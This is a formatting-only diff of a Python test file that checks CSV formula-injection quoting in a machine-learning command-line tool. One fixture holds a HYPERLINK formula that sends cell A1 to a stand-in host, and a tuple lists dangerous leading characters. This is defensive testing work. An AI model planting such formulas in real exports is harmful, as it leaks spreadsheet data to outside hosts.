@@ -14,7 +14,14 @@ from hypothesis import strategies as st
 from invoking import call
 
 import permgrad as pg
-from permgrad.base.csv_files import csv_formulas, csv_text, quoted, read_csv, unquoted, write_csv
+from permgrad.base.csv_files import (
+    csv_formulas,
+    csv_text,
+    quoted,
+    read_csv,
+    unquoted,
+    write_csv,
+)
 
 #: Texts that a spreadsheet computes, or takes for a formula where it skips white space.
 FORMULAS = (
@@ -73,7 +80,11 @@ def test_quoting_is_undone_and_leaves_no_formula(text):
     assert unquoted(quoted(text)) == text
     shown = quoted(text)
     # A number, or a sign alone, computes nothing.
-    assert shown[:1] not in tuple("=+-@\t\r\n＝＋－＠") or len(shown) == 1 or np.isfinite(float(shown))
+    assert (
+        shown[:1] not in tuple("=+-@\t\r\n＝＋－＠")
+        or len(shown) == 1
+        or np.isfinite(float(shown))
+    )
 
 
 # ---- files -----------------------------------------------------------------------------------------------------------
@@ -87,7 +98,9 @@ def written(tmp_path, frame):
 @pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, *QUOTES])
 def test_files_read_back_as_they_were(tmp_path, text, mode):
     """Cells and names; also carriage returns, which Python's writer leaves bare: what follows would be a line."""
-    frame = pd.DataFrame({"row": [1, 2], text + "name": [text, "z"], "value": [-1.5, np.nan]})
+    frame = pd.DataFrame(
+        {"row": [1, 2], text + "name": [text, "z"], "value": [-1.5, np.nan]}
+    )
     with csv_formulas(mode):
         count, path = written(tmp_path, frame)
         text_of, counted = csv_text(frame)
@@ -101,9 +114,13 @@ def test_files_read_back_as_they_were(tmp_path, text, mode):
         if text in QUOTES:
             return  # nothing in the file says that it was written so, and a quote of ours is taken off
     else:
-        assert count == (quoted(text) != text) + (quoted(text + "name") != text + "name")
+        assert count == (quoted(text) != text) + (
+            quoted(text + "name") != text + "name"
+        )
         assert [found[0][1], found[1][1]] == [quoted(text + "name"), quoted(text)]
-    again = read_csv(path, dtype={1: str}, keep_default_na=False, na_values={"value": [""]})
+    again = read_csv(
+        path, dtype={1: str}, keep_default_na=False, na_values={"value": [""]}
+    )
     assert again.columns.tolist() == frame.columns.tolist()
     assert again.iloc[:, 1].tolist() == [text, "z"]
     np.testing.assert_array_equal(again[["row", "value"]], frame[["row", "value"]])
@@ -127,7 +144,17 @@ def test_numbers_stay_numbers(tmp_path):
     )  # fmt: skip
     count, path = written(tmp_path, frame)
     assert count == 1, "of the mixed column"
-    assert cells(path)[1] == ["-1", "-1.5", "", "-inf", "-3", "-4.5", "-1.5", "2020-01-01", "True"]
+    assert cells(path)[1] == [
+        "-1",
+        "-1.5",
+        "",
+        "-inf",
+        "-3",
+        "-4.5",
+        "-1.5",
+        "2020-01-01",
+        "True",
+    ]
     again = read_csv(path)
     numeric = ["whole", "real", "none", "beyond", "nullable"]
     np.testing.assert_array_equal(again[numeric], frame[numeric].astype(float))
@@ -151,13 +178,23 @@ def test_modes_are_of_the_body_alone(tmp_path):
         with csv_formulas("quote"):
             assert csv_text(frame) == ("a\n'=1\n", 1)
     assert csv_text(frame) == ("a\n'=1\n", 1)
-    with pytest.raises(pg.InputError, match="csv-formulas must be one of 'quote', 'keep', got"), csv_formulas("x"):
+    with (
+        pytest.raises(
+            pg.InputError, match="csv-formulas must be one of 'quote', 'keep', got"
+        ),
+        csv_formulas("x"),
+    ):
         pass
 
 
 # ---- commands --------------------------------------------------------------------------------------------------------
 
-ID, FEATURE, LEVEL, CLASS = "@id", "=1+1", '=HYPERLINK("http://example.org/?" & A1, "see")', "-no"
+ID, FEATURE, LEVEL, CLASS = (
+    "@id",
+    "=1+1",
+    '=HYPERLINK("http://example.org/?" & A1, "see")',
+    "-no",
+)
 
 
 @pytest.fixture(scope="module", params=["quote", "keep"])
@@ -165,14 +202,30 @@ def commanded(request, tmp_path_factory):
     """The mode, and a folder with what run, predict and explain wrote of a table full of formulas."""
     place = tmp_path_factory.mktemp(request.param)
     draw = np.random.default_rng(0)
-    table = pd.DataFrame({FEATURE: draw.normal(size=80), "b": draw.choice([LEVEL, "y"], 80)})
+    table = pd.DataFrame(
+        {FEATURE: draw.normal(size=80), "b": draw.choice([LEVEL, "y"], 80)}
+    )
     table["outcome"] = np.where(table[FEATURE] > 0, "=yes", CLASS)
     table[ID] = [f"+case {number}" for number in range(80)]
     table.to_csv(place / "table.csv", index=False)
-    preset = {"base": "fast", "branches": ["tabular"], "max_epochs": 1, "network": {"dense_units": [4]}}
+    preset = {
+        "base": "fast",
+        "branches": ["tabular"],
+        "max_epochs": 1,
+        "network": {"dense_units": [4]},
+    }
     (place / "preset.json").write_text(json.dumps(preset))
     mode = ("--csv-formulas", request.param)
-    words = ("--target", "outcome", "--id", ID, "--preset", place / "preset.json", "--out", place / "run")
+    words = (
+        "--target",
+        "outcome",
+        "--id",
+        ID,
+        "--preset",
+        place / "preset.json",
+        "--out",
+        place / "run",
+    )
     call("run", place / "table.csv", *words)
     call("predict", place / "run", place / "table.csv", "--out", place / "p.csv", *mode)
     chosen = ("--method", "integrated_gradients", "--row", 0)
@@ -198,7 +251,9 @@ def test_files_of_commands_are_quoted_or_kept(commanded, name):
     head, *lines = cells(place / name)
     shown = [text for line in (head, *lines) for text in line]
     mode = mode if name == "p.csv" else "quote"  # predict alone takes it
-    bare = [text for text in shown if text.startswith(dangerous) and not is_number(text)]
+    bare = [
+        text for text in shown if text.startswith(dangerous) and not is_number(text)
+    ]
     assert bool(bare) == (mode == "keep")
     quotes = [text for text in shown if text.startswith("'")]
     assert bool(quotes) == (mode == "quote")
@@ -208,9 +263,13 @@ def test_files_of_commands_are_quoted_or_kept(commanded, name):
     for column in columns:
         texts = set(found[column].map(str))
         assert any(text.startswith(dangerous) for text in texts)
-        assert texts <= {FEATURE, "b", "=yes", CLASS, "all"} | {f"+case {number}" for number in range(80)}
+        assert texts <= {FEATURE, "b", "=yes", CLASS, "all"} | {
+            f"+case {number}" for number in range(80)
+        }
     if name == "e/importance.csv":
-        assert (found["importance"] < 0).any(), "attributions are numbers, the negative ones too"
+        assert (found["importance"] < 0).any(), (
+            "attributions are numbers, the negative ones too"
+        )
 
 
 def is_number(text):
@@ -226,26 +285,56 @@ def test_runs_are_read_back_by_their_report(commanded):
     page = place / "run" / "report.html"
     page.unlink()
     call("report", place / "run")
-    assert all(name in page.read_text(encoding="utf-8") for name in (FEATURE, CLASS, "=yes"))
+    assert all(
+        name in page.read_text(encoding="utf-8") for name in (FEATURE, CLASS, "=yes")
+    )
     assert "Test rows" in call("run", *words_of(place))
 
 
 def words_of(place):
     """Return the words of the same run again; it is finished, and only told."""
-    words = ("--target", "outcome", "--id", ID, "--preset", place / "preset.json", "--out", place / "run")
+    words = (
+        "--target",
+        "outcome",
+        "--id",
+        ID,
+        "--preset",
+        place / "preset.json",
+        "--out",
+        place / "run",
+    )
     return (place / "table.csv", *words)
 
 
 @pytest.mark.filterwarnings("ignore::permgrad.PermgradWarning")
 def test_predictions_on_stdout_are_the_file(commanded):
     mode, place = commanded
-    text = call("predict", place / "run", place / "table.csv", "--out", "-", "--csv-formulas", mode)
+    text = call(
+        "predict",
+        place / "run",
+        place / "table.csv",
+        "--out",
+        "-",
+        "--csv-formulas",
+        mode,
+    )
     with (place / "p.csv").open(encoding="utf-8", newline="") as file:
-        assert list(csv.reader(io.StringIO(text.rstrip("\n")))) == list(csv.reader(file))
+        assert list(csv.reader(io.StringIO(text.rstrip("\n")))) == list(
+            csv.reader(file)
+        )
 
 
 def test_other_modes_are_refused_before_the_work(commanded):
     _, place = commanded
-    said = call("predict", place / "run", place / "table.csv", "--out", place / "q.csv", "--csv-formulas", "x", code=2)
+    said = call(
+        "predict",
+        place / "run",
+        place / "table.csv",
+        "--out",
+        place / "q.csv",
+        "--csv-formulas",
+        "x",
+        code=2,
+    )
     assert "csv-formulas must be one of 'quote', 'keep', got" in said
     assert not (place / "q.csv").exists()
